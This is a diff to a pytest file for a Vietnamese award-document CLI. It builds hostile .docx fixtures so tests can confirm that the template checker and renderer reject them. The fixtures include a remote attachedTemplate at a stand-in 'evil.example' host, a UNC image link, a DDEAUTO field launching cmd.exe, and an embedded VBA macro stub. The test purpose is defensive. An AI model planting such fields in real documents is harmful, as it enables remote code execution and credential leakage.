@@ -4,7 +4,6 @@ bounded, and ``templates check`` gives ``render``'s verdict on every injection p
 
 from __future__ import annotations
 
-import io
 import shutil
 import zipfile
 from collections.abc import Callable
@@ -12,6 +11,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+
+from helpers import docx_with, relationships_xml
 
 SAMPLE = Path(__file__).resolve().parents[1] / "data" / "awards-sample.json"
 SHIPPED = Path(__file__).resolve().parents[2] / "src" / "thidua_cli" / "templates"
@@ -25,43 +26,27 @@ def result_file(tmp_path: Path) -> Path:
     return target
 
 
-def _docx_with(kind: str, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
-    """The shipped template of ``kind`` with parts added or replaced."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(SHIPPED / f"{kind}.docx") as src, zipfile.ZipFile(out, "w") as dst:
-        for info in src.infolist():
-            dst.writestr(info, (replace or {}).get(info.filename, src.read(info)))
-        for name, data in extra.items():
-            dst.writestr(name, data)
-    return out.getvalue()
-
-
-def _rels(rel: str) -> bytes:
-    return (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
-            b'package/2006/relationships">' + rel.encode() + b"</Relationships>")
-
-
 def _document_with(kind: str, xml: bytes) -> bytes:
     with zipfile.ZipFile(SHIPPED / f"{kind}.docx") as z:
         doc = z.read("word/document.xml")
-    return _docx_with(kind, {}, {"word/document.xml": doc.replace(b"</w:body>", xml + b"</w:body>")})
+    return docx_with(kind, {}, {"word/document.xml": doc.replace(b"</w:body>", xml + b"</w:body>")})
 
 
 HOSTILE: dict[str, tuple[bytes, str]] = {
-    "attached-template": (_docx_with("quyet-dinh", {"word/_rels/settings.xml.rels": _rels(
+    "attached-template": (docx_with("quyet-dinh", {"word/_rels/settings.xml.rels": relationships_xml(
         f'<Relationship Id="r9" Type="{REL}/attachedTemplate" Target="http://evil.example/t.dotm" '
         'TargetMode="External"/>')}), "attachedTemplate"),
-    "unc-image": (_docx_with("quyet-dinh", {"word/_rels/header9.xml.rels": _rels(
+    "unc-image": (docx_with("quyet-dinh", {"word/_rels/header9.xml.rels": relationships_xml(
         f'<Relationship Id="r9" Type="{REL}/image" Target="\\\\server\\share\\a.png" '
         'TargetMode="External"/>')}), "ảnh liên kết ra ngoài"),
-    "hyperlink": (_docx_with("quyet-dinh", {"word/_rels/footer9.xml.rels": _rels(
+    "hyperlink": (docx_with("quyet-dinh", {"word/_rels/footer9.xml.rels": relationships_xml(
         f'<Relationship Id="r9" Type="{REL}/hyperlink" Target="http://example.com/" '
         'TargetMode="External"/>')}), "liên kết ra ngoài"),
     "ddeauto": (_document_with("quyet-dinh", b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO '
                                b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
                 "DDEAUTO"),
     "dde": (_document_with("quyet-dinh", b'<w:p><w:fldSimple w:instr=" DDE excel x"/></w:p>'), "DDE"),
-    "macro": (_docx_with("quyet-dinh", {"word/vbaProject.bin": b"\x00" * 64}), "macro VBA"),
+    "macro": (docx_with("quyet-dinh", {"word/vbaProject.bin": b"\x00" * 64}), "macro VBA"),
 }
 
 
@@ -189,7 +174,7 @@ def test_check_refuses_what_render_refuses_in_a_docx(run_cli: Callable[..., Any]
     mau = tmp_path / "mau"
     mau.mkdir()
     (mau / "quyet-dinh.docx").write_bytes(
-        _docx_with("quyet-dinh", {}, {"word/document.xml": doc.replace(b"</w:body>", para + b"</w:body>")}))
+        docx_with("quyet-dinh", {}, {"word/document.xml": doc.replace(b"</w:body>", para + b"</w:body>")}))
     checked = run_cli("templates", "check", mau / "quyet-dinh.docx")
     rendered = run_cli("render", "quyet-dinh", "--from", result_file, "--templates", mau)
     assert checked.exit_code == rendered.exit_code == 5, (checked.output, rendered.output)
